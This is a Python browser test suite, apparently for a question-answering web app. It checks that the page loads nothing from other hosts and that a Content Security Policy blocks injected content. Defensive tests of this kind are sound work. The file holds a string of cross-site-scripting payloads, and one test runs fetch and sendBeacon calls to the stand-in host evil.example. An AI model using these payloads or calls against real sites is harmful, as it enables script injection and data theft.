"""The server seen by a real browser: nothing from elsewhere, nothing failing, and hostile text stays text."""

import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlparse

import pytest

from focqa.assistant import Assistant
from tests.serving import served

CHROMIUM = shutil.which("chromium")
playwright = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed on this system")
PATIENCE_MS = 30_000
HOSTILE = (
    "<script>window.hit=1</script><img src=x onerror='window.hit=2'>![x](http://evil.example/a.png) "
    "[y](javascript:window.hit=3) ${window.hit=4} {{window.hit=5}} <form action='http://evil.example'> spyware"
)


@dataclass
class Seen:
    """What a page asked for and complained of."""

    page: Any
    url: str
    requests: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def elsewhere(self) -> set[str]:
        """Addresses asked for that are not on the page's own host."""
        here = urlparse(self.url).netloc
        return {r for r in self.requests if urlparse(r).scheme not in ("data", "blob") and urlparse(r).netloc != here}

    def ask(self, question: str) -> None:
        """Type a question and wait for something below it."""
        self.page.get_by_label("Your question").fill(question)
        self.page.get_by_role("button", name="Ask").click()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as running:
        started = running.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield started
        started.close()


@pytest.fixture
def seen(plain: Assistant, browser: Any) -> Iterator[Seen]:
    with served(plain, plain.settings) as running:
        page = browser.new_page()
        page.set_default_timeout(PATIENCE_MS)
        found = Seen(page, running.url)
        page.on("request", lambda request: found.requests.append(request.url))
        page.on("response", lambda r: found.errors.append(f"{r.status} {r.url}") if r.status >= 400 else None)
        page.on("console", lambda m: found.errors.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: found.errors.append(str(error)))
        page.goto(running.url)
        yield found
        page.close()


def test_a_question_is_answered_and_nothing_comes_from_elsewhere(seen: Seen) -> None:
    seen.ask("What is Goal 2 of the 2024 programme?")
    seen.page.get_by_text("poa-2024/2").first.wait_for()
    assert seen.elsewhere() == set()
    assert seen.errors == []
    assert len(seen.requests) > 10


def test_hostile_text_stays_text(seen: Seen) -> None:
    seen.ask(HOSTILE)
    seen.page.locator("pre").wait_for()
    assert seen.page.evaluate("window.hit") is None
    assert seen.elsewhere() == set()
    assert seen.page.locator("img[src*=evil], form, a[href^=javascript]").count() == 0
    assert seen.errors == []


def test_were_markup_ever_let_in_the_policy_would_stop_it(seen: Seen) -> None:
    seen.page.get_by_label("Your question").wait_for()
    seen.page.evaluate(
        """() => {
            const box = document.createElement("div");
            box.innerHTML = `<img src="http://evil.example/a.png"><img src="x" onerror="window.hit=1">
                <div style="background: url(http://evil.example/b.png)">x</div>
                <svg><image href="http://evil.example/c.png"/></svg>
                <form id="f" action="http://evil.example/d" method="post"></form><iframe src="http://evil.example/e"></iframe>`;
            document.body.append(box);
            const script = document.createElement("script");
            script.textContent = "window.hit=2";
            document.body.append(script);
            document.getElementById("f").submit();
            fetch("http://evil.example/f").catch(() => {});
            navigator.sendBeacon("http://evil.example/g");
        }"""
    )
    seen.page.wait_for_timeout(500)
    assert seen.page.evaluate("window.hit") is None
    assert urlparse(seen.page.url).netloc == urlparse(seen.url).netloc
    refused = [error for error in seen.errors if "Content Security Policy" in error]
    assert [e for e in seen.errors if "evil.example" in e and e not in refused] == []
    for what in [f"http://evil.example/{letter}" for letter in "abcdfg"] + ["Framing 'http://evil.example/'"]:
        assert any(what in error for error in refused), what
